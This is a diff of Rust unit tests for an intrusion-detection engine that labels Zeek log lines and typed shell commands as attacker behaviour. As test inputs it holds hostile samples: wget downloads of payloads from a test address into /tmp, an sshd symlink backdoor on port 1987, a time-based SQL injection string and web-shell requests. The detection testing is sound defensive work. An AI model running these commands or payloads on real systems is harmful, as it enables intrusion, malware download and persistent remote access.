@@ -2,9 +2,11 @@
 
 use std::collections::BTreeMap;
 
-use super::super::facet::{Facet, Facets};
-use super::all;
+use casebook_protocol::Bearing;
 use serde_json::json;
+
+use super::super::facet::{Facet, Facets};
+use super::{Behaviour, all};
 
 type Map = BTreeMap<String, String>;
 
@@ -24,11 +26,15 @@ fn programs_under_other_names_and_on_other_hosts_are_seen_on_the_network() {
     let bot =
         "1\tCx1\t10.0.0.7\t192.0.2.9\tPOST\t192.0.2.9\t/ser11/PC-7_W617601.A58868686B1A88CAB32C4D4AC9CB2738/83/\t-\t-";
     assert!(zeek(HTTP, bot).contains(&"banking-trojan-report"));
-    const FILES: &str = "ts fuid id.orig_h id.resp_h source analyzers mime_type filename";
-    let at = |path: &str| {
-        zeek(FILES, &format!("1\tFx1\t10.0.0.7\t10.0.0.5\tSMB\tPE\tapplication/x-dosexec\t{path}"))
+    let page = zeek(HTTP, "1\tCx1\t10.0.0.7\t192.0.2.9\tGET\t192.0.2.9\t/get?f=a.png\t200\tapplication/x-dosexec");
+    assert!(!page.contains(&"executable-behind-other-name"), "{page:?}");
+    const FILES: &str = "ts fuid id.orig_h id.resp_h source analyzers mime_type filename is_orig";
+    let sent = |path: &str, by: &str| {
+        zeek(FILES, &format!("1\tFx1\t10.0.0.7\t10.0.0.5\tSMB\tPE\tapplication/x-dosexec\t{path}\t{by}"))
             .contains(&"program-into-share-of-administrators")
     };
+    let at = |path: &str| sent(path, "T");
+    assert!(!sent(r"\\WINDOWS\\ntoskrnl.exe", "F"), "it was read");
     assert!(at(r"\\WINDOWS\\4k.exe") && at(r"Windows\Temp\a.dll"));
     assert!(!at(r"corp.local\Policies\{31B2F340}\a.exe") && !at(r"\\tools\\windows.exe"));
 }
@@ -58,12 +64,14 @@ fn what_intruders_type_is_told_from_what_administrators_type() {
     };
     let sshd = "linux-sshd-under-other-name";
     assert!(typed("ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987").contains(&sshd));
-    assert!(!typed("cp /usr/sbin/sshd /root/sshd.bak").contains(&sshd));
+    assert!(typed("cd /tmp; ln -sf /usr/sbin/sshd su; ./su -oPort=1987").contains(&sshd));
+    assert!(!typed("cp /usr/sbin/sshd /opt/backup/sshd; ssh -oPort=2222 backup@host").contains(&sshd));
     let fetched = "linux-download-into-temp-from-address";
     assert!(typed("wget -P/tmp http://192.0.2.18/xcsyn").contains(&fetched));
     assert!(typed("cd /tmp; wget http://192.0.2.18/bins.sh").contains(&fetched));
     assert!(!typed("wget -P/tmp https://example.org/a.tgz").contains(&fetched));
     assert!(!typed("wget http://192.0.2.18/a.tgz").contains(&fetched));
+    assert!(!typed("wget -O /tmp/app-1.2.3.4.tgz https://example.org/app-1.2.3.4.tgz").contains(&fetched));
 }
 
 #[test]
@@ -86,4 +94,25 @@ fn an_alert_of_an_intrusion_detection_system_weighs_by_its_grade() {
     assert_eq!(graded("1"), ["alert-of-medium-severity"]);
     assert_eq!(graded("2"), ["alert-of-low-severity"]);
     assert_eq!(graded("3"), [""; 0]);
+}
+
+#[test]
+fn what_is_sent_in_a_body_accuses_and_excuses_nothing() {
+    let asked = |url: &str, body: &str| {
+        let request = format!("POST {url} HTTP/1.1");
+        let fields: Map = [("method", "POST"), ("request", &request), ("status", "200"), ("request_body", body)]
+            .map(|(k, v)| (k.to_owned(), v.to_owned()))
+            .into();
+        let text = format!("{url} {body}");
+        let facets = Facets::read(&fields, &text);
+        all().iter().filter(|b| b.matches(&facets, &text.to_lowercase())).collect::<Vec<_>>()
+    };
+    let ids = |all: &[&Behaviour]| all.iter().map(|b| b.id.clone()).collect::<Vec<_>>();
+    let injected = asked("/a.php", "id=2%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))x)");
+    assert!(ids(&injected).contains(&"web-sql-injection".to_owned()), "{:?}", ids(&injected));
+    let package = "http://archive.ubuntu.com/ubuntu/pool/main/a/apt/apt_1.0_amd64.deb";
+    let excused = asked("/shell.php?cmd=id", package);
+    assert!(excused.iter().all(|b| b.bearing != Bearing::Exonerating), "{:?}", ids(&excused));
+    let shell = asked("/uploads/shell.aspx", "x=/owa/auth/logon.aspx");
+    assert!(ids(&shell).contains(&"web-script-in-upload-folder".to_owned()), "{:?}", ids(&shell));
 }
